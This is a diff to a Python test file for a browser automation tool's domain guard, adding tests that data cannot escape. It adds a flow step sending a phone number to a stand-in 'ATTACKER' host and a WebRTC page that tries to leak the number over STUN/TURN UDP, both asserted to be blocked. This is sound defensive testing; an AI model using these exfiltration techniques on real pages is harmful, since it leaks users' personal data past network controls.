@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import http.server
+import socket
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -65,6 +66,8 @@ flows:
         optional: true
       - goto: https://www.tp.test/go
         optional: true
+      - goto: "http://ATTACKER/goto?n={phone.national_digits}"
+        optional: true
     detect:
       - when: {text: 永远不会出现}
         outcome: bound
@@ -91,7 +94,7 @@ def test_every_way_out_is_blocked_and_recorded(
     address, hits = attacker
     platform = make_platform(
         tmp_path,
-        EXFIL_FLOW,
+        EXFIL_FLOW.replace("ATTACKER", address),
         {"index.html": EXFIL_PAGE.replace("ATTACKER", address)},
         replica=EXFIL_REPLICA.replace("ATTACKER", address),
     )
@@ -101,7 +104,7 @@ def test_every_way_out_is_blocked_and_recorded(
     blocked = outcome.blocked
     assert {b.host for b in blocked} == {"127.0.0.1"}
     paths = {(b.url or "").split("127.0.0.1:")[-1].split("/", 1)[-1] for b in blocked}
-    assert {"img?…", "fetch?…", "form", "redirect?…"} <= paths, paths
+    assert {"img?…", "fetch?…", "form", "redirect?…", "goto?…"} <= paths, paths
     assert {b.via for b in blocked} >= {"route", "proxy", "websocket"}
     assert all("13800138000" not in (b.url or "") for b in blocked)
 
@@ -129,3 +132,50 @@ def test_goto_outside_the_domains_ends_with_the_request_blocked(
     assert "blocked by the domain guard" in outcome.failure.error
     assert [b.host for b in outcome.blocked] == ["collector.example.net"]
     assert outcome.blocked[0].url == "https://collector.example.net/?…"
+
+
+WEBRTC_PAGE = """\
+<!doctype html><meta charset="utf-8"><body><p>rtc</p>
+<script>
+const pc = new RTCPeerConnection({iceServers: [
+  {urls: 'stun:127.0.0.1:PORT'},
+  {urls: 'turn:127.0.0.1:PORT?transport=udp', username: '13800138000', credential: 'x'}]});
+pc.createDataChannel('leak');
+pc.onicecandidate = (e) => { if (e.candidate) document.title += 'c'; };
+pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p>done</p>'), 1500);
+</script></body>
+"""
+
+WEBRTC_FLOW = """\
+flows:
+  check:
+    detect_timeout: 5
+    steps:
+      - goto: https://www.tp.test/
+    detect:
+      - when: {text: done}
+        outcome: unknown
+        evidence: the page had its chance
+"""
+
+
+def test_webrtc_cannot_reach_a_host_over_udp(
+    tmp_path: Path, unbinder_browser: BrowserThread
+) -> None:
+    """STUN/TURN over UDP would bypass the guard's proxy (and name any host): it must not leave."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.bind(("127.0.0.1", 0))
+        udp.setblocking(False)
+        port = udp.getsockname()[1]
+        page = WEBRTC_PAGE.replace("PORT", str(port))
+        platform = make_platform(tmp_path, WEBRTC_FLOW, {"index.html": page})
+        outcome, _ = run(unbinder_browser, platform)
+        assert outcome.status == "unknown", outcome.summary()
+        packets = []
+        while True:
+            try:
+                packets.append(udp.recv(4096))
+            except BlockingIOError:
+                break
+    assert packets == []
